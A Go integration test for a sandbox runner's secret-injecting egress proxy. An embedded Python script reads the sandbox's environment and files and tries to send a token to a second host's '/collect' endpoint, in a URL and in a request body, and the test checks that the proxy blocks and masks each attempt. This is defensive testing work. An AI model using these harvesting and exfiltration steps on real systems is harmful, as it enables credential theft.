//go:build integration

package integration

import (
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sandboxrun/sandboxrun"
	"github.com/sandboxrun/sandboxrun/audit"
	"github.com/sandboxrun/sandboxrun/sandbox"
)

// secretValue is the credential the operator's sandboxrun holds. The tests
// grep for it everywhere the sandbox or the records could have put it.
const secretValue = "ghp_integration_secret_5b2c9d0e7f41"

// apiLog is the test API servers' log: every request's host, path and
// headers, written as a server writes its access log.
type apiLog struct {
	mu   sync.Mutex
	text strings.Builder
}

func (l *apiLog) handler(next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		l.mu.Lock()
		fmt.Fprintf(&l.text, "%s %s %s headers=%v body=%q\n", r.Host, r.Method, r.URL.RequestURI(), r.Header, b)
		l.mu.Unlock()
		next(w, r)
	}
}

func (l *apiLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.String()
}

// secretsScript reads what the sandbox holds and calls the APIs the way
// unmodified code does: the token from the environment, in its own
// Authorization header, through the proxy variables and the default trust
// store (SSL_CERT_FILE).
const secretsScript = `import json, os, ssl, sys, urllib.request, urllib.error
A, B = sys.argv[1], sys.argv[2]
tok = os.environ.get("GITHUB_TOKEN", "")
def call(url, headers=None, method="GET", data=None, cafile=None):
    ctx = ssl.create_default_context(cafile=cafile)
    req = urllib.request.Request(url, headers=headers or {}, method=method, data=data)
    try:
        with urllib.request.urlopen(req, timeout=20, context=ctx) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "body": e.read().decode()}
    except Exception as e:
        return {"error": type(e).__name__ + ": " + str(e)}
files = {}
for root in ["/run/sandboxrun", "/tmp", os.environ["SKILL_DIR"]]:
    for d, _, names in os.walk(root):
        for n in names:
            p = os.path.join(d, n)
            try:
                files[p] = open(p, "rb").read(1 << 20).decode(errors="replace")
            except OSError:
                pass
auth = {"Authorization": "Bearer " + tok}
import subprocess
# git (libcurl) trusts the proxy through GIT_SSL_CAINFO; the answer is no
# git repository, so only what arrived matters.
g = subprocess.run(["git", "-c", "http.extraHeader=Authorization: Bearer " + tok, "ls-remote", A + "/repos/acme/tool.git"],
                   capture_output=True, text=True, timeout=60)
print(json.dumps({
  "token": tok,
  "others": {k: os.environ.get(k) for k in ["SLACK_TOKEN", "OTHER_TOKEN", "UNDECLARED_TOKEN"]},
  "proc": open("/proc/self/environ", "rb").read().decode(errors="replace"),
  "files": files,
  "get": call(A + "/repos/acme/echo", auth),
  "image_bundle": call(A + "/repos/acme/echo", auth, cafile="/etc/ssl/certs/ca-certificates.crt"),
  "post": call(A + "/repos/acme/echo", auth, method="POST", data=b"payload"),
  "no_token": call(A + "/repos/acme/echo"),
  "wrong_path": call(A + "/repos/other/echo", auth),
  "wrong_method": call(A + "/repos/acme/echo", auth, method="DELETE"),
  "other_host": call(B + "/collect", {"X-Api-Key": tok}),
  "in_url": call(A + "/repos/acme/echo?token=" + tok),
  "in_body": call(A + "/repos/acme/echo", method="POST", data=("token=" + tok).encode()),
  "redirect": call(A + "/redirect", auth),
  "git": g.stderr,
}))
`

func TestEgressSecretsCLI(t *testing.T) {
	t.Parallel()
	logs := &apiLog{}
	other := httptest.NewUnstartedServer(logs.handler(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "other host") }))
	other.Config.ErrorLog = log.New(io.Discard, "", 0)
	other.StartTLS()
	t.Cleanup(other.Close)
	otherURL := other.URL
	api := httptest.NewUnstartedServer(logs.handler(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, otherURL+"/landing", http.StatusFound)
			return
		}
		// A careless API that echoes the credential back.
		fmt.Fprintf(w, "auth=%s slack=%s", r.Header.Get("Authorization"), r.Header.Get("X-Slack"))
	}))
	api.Config.ErrorLog = log.New(io.Discard, "", 0)
	api.StartTLS()
	t.Cleanup(api.Close)
	a, b := strings.TrimPrefix(api.URL, "https://"), strings.TrimPrefix(other.URL, "https://")

	dir := t.TempDir()
	caFile := filepath.Join(dir, "internal-ca.pem")
	require.NoError(t, os.WriteFile(caFile, []byte(pemOf(api.Certificate().Raw)+pemOf(other.Certificate().Raw)), 0o644))
	root := cliSkill(t, "fetcher", fmt.Sprintf("metadata:\n  network_access: \"true\"\n  allowed_domains: \"%s %s\"\n  secrets: \"GITHUB_TOKEN SLACK_TOKEN\"\n", a, b),
		map[string]string{"scripts/call.py": secretsScript})
	polText := fmt.Sprintf(`network: allowlist
allowed_domains: ["%[1]s", "%[2]s"]
egress:
  allow_cidrs: [127.0.0.1/32]
  upstream_ca: %[3]s
  rules:
    - {host: "%[1]s", methods: [GET, POST], paths: [/repos/acme/, /redirect]}
    - {host: "%[2]s"}
secrets:
  GITHUB_TOKEN: {from_env: IT_API_TOKEN, hosts: ["%[1]s"], header: "Authorization: Bearer {value}"}
  SLACK_TOKEN: {from_env: IT_API_TOKEN, hosts: ["%[1]s"], header: "X-Slack: {value}"}
  OTHER_TOKEN: {from_env: IT_API_TOKEN, hosts: ["%[1]s"], header: "X-Other: {value}"}
skills:
  fetcher:
    secrets: [GITHUB_TOKEN, OTHER_TOKEN]
`, a, b, caFile)
	pol := filepath.Join(dir, "policy.yaml")
	require.NoError(t, os.WriteFile(pol, []byte(polText), 0o644))
	auditLog := filepath.Join(dir, "audit.jsonl")
	tmp := shortDir(t)
	env := []string{"TMPDIR=" + tmp, "SANDBOXRUN_RUNNER_IMAGE=" + sandboxrun.RunnerImage(), "IT_API_TOKEN=" + secretValue}
	run := func() (cliResult, sandbox.Result, map[string]json.RawMessage) {
		t.Helper()
		r := cli(t, root, env, "", "--skills", root, "--policy", pol, "run", "--json", "--audit-log", auditLog,
			"fetcher", "scripts/call.py", "--", api.URL, other.URL)
		require.Equal(t, 0, r.code, "stdout: %s\nstderr: %s", r.stdout, r.stderr)
		var res sandbox.Result
		require.NoError(t, json.Unmarshal([]byte(r.stdout), &res))
		var out map[string]json.RawMessage
		require.NoError(t, json.Unmarshal(res.Output, &out), res.Stdout+res.Stderr)
		requireEmptyDir(t, tmp)
		return r, res, out
	}
	r, res, out := run()
	got := func(key string) fetched {
		var f fetched
		require.NoError(t, json.Unmarshal(out[key], &f), string(out[key]))
		return f
	}

	// The sandbox holds a placeholder, in the environment and /proc, and
	// nothing else: the other secrets are absent (one declared but not
	// granted, one granted to the skill but not declared, one unknown).
	var token string
	require.NoError(t, json.Unmarshal(out["token"], &token))
	require.True(t, strings.HasPrefix(token, "sandboxrun-secret-"), token)
	require.JSONEq(t, `{"SLACK_TOKEN": null, "OTHER_TOKEN": null, "UNDECLARED_TOKEN": null}`, string(out["others"]))
	require.Contains(t, string(out["proc"]), "GITHUB_TOKEN="+token)
	require.Contains(t, string(out["files"]), "BEGIN CERTIFICATE", "the CA bundle is mounted")

	// The API got the secret, in the configured header, from urllib with
	// the variables' bundle and with the image's own bundle path.
	for _, k := range []string{"get", "image_bundle", "post"} {
		f := got(k)
		require.Equal(t, 200, f.Status, "%s: %+v", k, f)
		// The API echoed it; the proxy masked it on the way back.
		require.Equal(t, "auth=Bearer "+strings.Repeat("*", len(secretValue))+" slack=", f.Body, k)
	}
	require.Contains(t, logs.String(), a+" GET /repos/acme/echo headers=map[Accept-Encoding:[identity] Authorization:[Bearer "+secretValue+"]")
	require.Equal(t, "auth= slack=", got("no_token").Body, "no placeholder sent, no secret added")
	require.Contains(t, logs.String(), a+" GET /repos/acme/tool.git/info/refs?service=git-upload-pack headers=", "git: %s", out["git"])
	require.Regexp(t, `/repos/acme/tool\.git/info/refs\?service=git-upload-pack headers=map\[.*Authorization:\[Bearer `+secretValue+`\]`, logs.String())
	require.NotContains(t, string(out["git"]), "certificate", "git trusted the proxy")

	// L7 rules, and placeholders where the secret does not go.
	for k, want := range map[string]string{
		"wrong_path":   "GET /repos/other/echo to 127.0.0.1 is outside the operator's egress.rules",
		"wrong_method": "DELETE /repos/acme/echo to 127.0.0.1 is outside",
		"other_host":   "the placeholder of secret GITHUB_TOKEN is in the header X-Api-Key of a request to 127.0.0.1",
		"in_url":       "is in the URL",
		"in_body":      "is in the body",
		"redirect":     "is in the header Authorization of a request to 127.0.0.1",
	} {
		f := got(k)
		require.Equal(t, 403, f.Status, "%s: %+v", k, f)
		require.Contains(t, f.Body, want, k)
	}
	require.NotContains(t, logs.String(), b+" GET /landing", "the redirect to another host never arrived with the placeholder")
	require.NotContains(t, logs.String(), b+" GET /collect")

	// The Result says what was granted and withheld, and the value is
	// nowhere: not in the Result, the audit log, the CLI's output, the
	// servers' logs of anything but the API's own requests.
	require.Equal(t, []string{"SLACK_TOKEN"}, res.Limits.SecretsWithheld)
	require.Contains(t, res.Limits.Sources["secrets"].String(), "SLACK_TOKEN is not granted")
	require.Len(t, res.Limits.Egress.Secrets, 1)
	require.Equal(t, "GITHUB_TOKEN", res.Limits.Egress.Secrets[0].Name)
	require.Equal(t, int64(4), res.Egress.ExfiltrationAttempts)
	auditText := readFile(t, auditLog)
	var rec audit.Record
	require.NoError(t, json.Unmarshal([]byte(strings.TrimSpace(auditText)), &rec))
	applied := map[string]int{}
	for _, d := range rec.Egress.Decisions {
		if len(d.Secrets) > 0 {
			require.Equal(t, []string{"GITHUB_TOKEN"}, d.Secrets)
			require.Equal(t, "127.0.0.1", d.Host)
			applied[d.Method+" "+d.Path]++
		}
	}
	require.Equal(t, 2, applied["GET /repos/acme/echo"], "get and image_bundle: %v", applied)
	require.Equal(t, 1, applied["POST /repos/acme/echo"], "post: %v", applied)
	require.Equal(t, 1, applied["GET /redirect"], "the redirect's first hop, to its own host: %v", applied)
	require.NotZero(t, applied["GET /repos/acme/tool.git/info/refs"], "git: %v", applied)
	for what, text := range map[string]string{"stdout": r.stdout, "stderr": r.stderr, "audit": auditText} {
		require.NotContains(t, text, secretValue, what)
	}
	require.NotContains(t, strings.ReplaceAll(logs.String(), "Authorization:[Bearer "+secretValue+"]", ""), secretValue,
		"the servers saw the value only in the configured header")
	requireNoSkillContainers(t, "fetcher")

	// An upstream the proxy cannot verify (no upstream_ca) gets nothing.
	require.NoError(t, os.WriteFile(pol, []byte(strings.Replace(polText, "  upstream_ca: "+caFile+"\n", "", 1)), 0o644))
	before := logs.String()
	_, _, out = run()
	f := got("get")
	require.Equal(t, 403, f.Status)
	require.Contains(t, f.Body, "could not verify 127.0.0.1")
	require.Equal(t, before, logs.String(), "nothing reached the unverified host")
}

func pemOf(der []byte) string {
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

func TestEgressSecretsBadPolicyRefusesToStart(t *testing.T) {
	t.Parallel()
	root := cliSkill(t, "fetcher", "metadata:\n  network_access: \"true\"\n  secrets: \"GITHUB_TOKEN\"\n", map[string]string{"scripts/x.py": "print(1)\n"})
	dir := t.TempDir()
	tmp := shortDir(t)
	for name, tt := range map[string]struct{ policy, want string }{
		"inline value": {"secrets:\n  GITHUB_TOKEN:\n    value: " + secretValue + "\n    hosts: [api.github.com]\n    header: \"Authorization: Bearer {value}\"\n",
			"`value` would put the credential in the policy file"},
		"bad host": {"secrets:\n  GITHUB_TOKEN:\n    from_env: IT_API_TOKEN\n    hosts: [\"https://api.github.com\"]\n    header: \"Authorization: Bearer {value}\"\n",
			"secrets.GITHUB_TOKEN.hosts"},
		"missing env": {"secrets:\n  GITHUB_TOKEN:\n    from_env: IT_UNSET_TOKEN\n    hosts: [api.github.com]\n    header: \"Authorization: Bearer {value}\"\n",
			"secrets.GITHUB_TOKEN.from_env: $IT_UNSET_TOKEN is not set"},
	} {
		pol := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".yaml")
		require.NoError(t, os.WriteFile(pol, []byte(tt.policy), 0o644))
		r := cli(t, root, []string{"TMPDIR=" + tmp, "IT_API_TOKEN=" + secretValue}, "", "--skills", root, "--policy", pol, "run", "--json", "fetcher", "scripts/x.py")
		require.NotEqual(t, 0, r.code, name)
		require.Contains(t, r.stderr+r.stdout, tt.want, name)
		require.NotContains(t, r.stderr+r.stdout, secretValue, name)
		requireEmptyDir(t, tmp)
	}
	requireNoSkillContainers(t, "fetcher")
}
